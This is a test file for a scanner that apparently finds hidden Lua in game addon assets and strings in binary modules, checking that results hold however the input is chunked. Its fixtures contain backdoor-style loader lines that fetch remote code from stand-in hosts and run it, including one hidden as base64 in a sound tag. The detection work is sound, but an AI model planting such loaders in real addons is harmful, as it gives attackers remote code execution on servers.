// One entry's analysis fed in chunks: whatever the cuts between chunks, an asset gives up the
// same hidden Lua and a binary module the same strings as when its bytes come in one piece.
import { describe, expect, it } from 'vitest';
import { buildPeModule, noise } from './archiveFixtures.js';
import { analyseEntry } from './entryAnalysis.js';
import { ReadingContext, resolveLimits } from './readingContext.js';
import type { ArchiveEntry } from './types.js';

const text = (s: string): Uint8Array => new TextEncoder().encode(s);
const decode = (b: Uint8Array | undefined): string => new TextDecoder().decode(b);

function concat(parts: Uint8Array[]): Uint8Array {
  const out = new Uint8Array(parts.reduce((n, p) => n + p.length, 0));
  let at = 0;
  for (const p of parts) {
    out.set(p, at);
    at += p.length;
  }
  return out;
}

/** The bytes cut at the given offsets. */
function cut(bytes: Uint8Array, offsets: number[]): Uint8Array[] {
  const chunks: Uint8Array[] = [];
  let from = 0;
  for (const at of [...offsets].sort((a, b) => a - b)) {
    chunks.push(bytes.subarray(from, at));
    from = at;
  }
  chunks.push(bytes.subarray(from));
  return chunks;
}

async function analyse(path: string, chunks: Iterable<Uint8Array>): Promise<ArchiveEntry> {
  const ctx = new ReadingContext(resolveLimits());
  const onlyCounted = await analyseEntry(ctx, path, 0, chunks);
  expect(ctx.entries).toHaveLength(1);
  expect(onlyCounted).toBe(ctx.entries[0]!.kind === 'asset');
  return ctx.entries[0]!;
}

const LOADER = 'http.Fetch("https://x.invalid/p", function(b) RunString(b) end) -- first\n';
const SECOND = 'local f = CompileString(net.ReadString(), "x") f() -- second payload here\n';
const PROSE = 'A long printable run with no Lua word in it at all, only plain prose.';

describe('analyseEntry on an asset in chunks', () => {
  const payload1At = 5000;
  const asset = concat([
    noise(payload1At, 1),
    text(LOADER),
    noise(70_000, 2),
    text(PROSE),
    noise(3000, 3),
    text(SECOND), // runs to the end of the file
  ]);

  it('keeps each run holding a Lua word once, in file order', async () => {
    const whole = await analyse('materials/logo.png', [asset]);
    expect(whole.kind).toBe('lua_in_asset');
    expect(whole.size).toBe(asset.length);
    expect(decode(whole.bytes)).toBe(`${LOADER}\n${SECOND}\n`);
    expect(whole.sha256).toMatch(/^[0-9a-f]{64}$/);
  });

  it('gives the same result whatever the cuts, inside words and runs included', async () => {
    const whole = await analyse('materials/logo.png', [asset]);
    const end = asset.length;
    const cuts = [
      [payload1At + 1],
      [payload1At + 10, payload1At + 11, payload1At + 12],
      [payload1At - 1, payload1At + LOADER.length],
      [end - 1],
      [end - SECOND.length + 3, end - 20],
      Array.from({ length: 200 }, (_, i) => (i * 7919) % end),
      Array.from({ length: end / 1000 }, (_, i) => i * 1000),
    ];
    for (const offsets of cuts) {
      const chunked = await analyse('materials/logo.png', cut(asset, offsets));
      expect(chunked).toEqual(whole);
    }
  });

  it('finds a Lua word deep inside a printable run longer than what is carried between chunks', async () => {
    const filler = 'x = 1 + 2 '.repeat(15_000); // 150 000 printable bytes, no Lua word
    const bytes = concat([noise(100, 4), text(filler), text(LOADER), noise(100, 5)]);
    const chunks = cut(
      bytes,
      Array.from({ length: 150 }, (_, i) => i * 1024 + 17),
    );
    const entry = await analyse('sound/loop.wav', chunks);
    expect(entry.kind).toBe('lua_in_asset');
    expect(decode(entry.bytes)).toContain('RunString(b)');
  });

  it('keeps a run for each Lua word alone, and not for look-alikes of its `.` and `[`', async () => {
    // Each holds one Lua word and no other, and looks like Lua once kept.
    const alone = [
      'RunString(x)',
      'CompileString(x)',
      'loadstring(x)',
      'http.Fetch(x)',
      '\n-- c\nfunction f(a) return a end\n',
      '-- c\nlocal y = 2\nif y then y = 1 end\n',
      '-- c\nhook.Add("a", "b", f)\nif x then y() end\n',
      '_G["x"](1)',
    ];
    const filler = 'x = 1 + 2 '.repeat(6);
    const inAsset = (run: string): Uint8Array =>
      concat([noise(200, 8), text(`${filler}${run}${filler}`), noise(200, 9)]);
    for (const run of alone) {
      const entry = await analyse('materials/a.vtf', [inAsset(run)]);
      expect(entry.kind).toBe('lua_in_asset');
    }
    const lookAlike = '\n-- c\nhttpxFetch(a) hookxAdd(b) _G(1)\nif x then y() end\n';
    expect((await analyse('materials/a.vtf', [inAsset(lookAlike)])).kind).toBe('asset');
  });

  it('keeps Lua written in base64 inside a run (a tag of a sound), decoded, whatever the cuts', async () => {
    const code = `-- tuning\n${LOADER}return { fade = 2 }\n`;
    const tag = `ZONECFG=${Buffer.from(code).toString('base64')}`;
    const bytes = concat([noise(300, 10), text('vorbis'), noise(7, 11), text(tag), noise(300, 12)]);
    for (const chunks of [[bytes], cut(bytes, [320, 340, 400])]) {
      const entry = await analyse('sound/zones/harbor.ogg', chunks);
      expect(entry.kind).toBe('lua_in_asset');
      expect(decode(entry.bytes)).toContain('RunString(b)');
    }
  });

  it('keeps nothing from base64 of binary data or of prose (an embedded image, a licence)', async () => {
    const image = Buffer.from(noise(900, 13)).toString('base64');
    const licence = Buffer.from(`${PROSE} ${PROSE}`).toString('base64');
    for (const run of [image, licence]) {
      const bytes = concat([noise(300, 14), text(`data=${run}`), noise(300, 15)]);
      expect((await analyse('materials/logo.png', [bytes])).kind).toBe('asset');
    }
  });

  it('keeps nothing from noise, short runs or Lua words in runs too short', async () => {
    const bytes = concat([noise(4000, 6), text('function x'), noise(4000, 7), text(PROSE)]);
    for (const chunks of [[bytes], cut(bytes, [4003, 4005, 8010])]) {
      const entry = await analyse('models/crate.mdl', chunks);
      expect(entry).toEqual({
        path: 'models/crate.mdl',
        size: bytes.length,
        depth: 0,
        kind: 'asset',
      });
    }
  });
});

describe('analyseEntry on a binary module in chunks', () => {
  it('finds the same printable strings whatever the cuts', async () => {
    // Past the first 4 KiB (read whole to sniff), the strings come in the cut chunks.
    const module = concat([
      buildPeModule(['gmod13_open']),
      noise(5000, 8),
      text('\0https://loader.invalid/s.php\0\x01'),
      text('a'.repeat(300)), // longer than a kept string
      noise(10, 9),
      text('short\0tail_string_at_the_end'),
    ]);
    const whole = await analyse('lua/bin/gmsv_x_win32.dll', [module]);
    expect(whole.kind).toBe('binary_module');
    expect(whole.strings).not.toContain('short');
    expect(whole.strings).toEqual(
      expect.arrayContaining([
        'gmod13_open',
        'https://loader.invalid/s.php',
        'a'.repeat(256),
        'tail_string_at_the_end',
      ]),
    );
    const everyByte = Array.from({ length: module.length - 1 }, (_, i) => i + 1);
    for (const offsets of [everyByte, everyByte.filter((i) => i % 5 === 0)]) {
      expect(await analyse('lua/bin/gmsv_x_win32.dll', cut(module, offsets))).toEqual(whole);
    }
  });
});
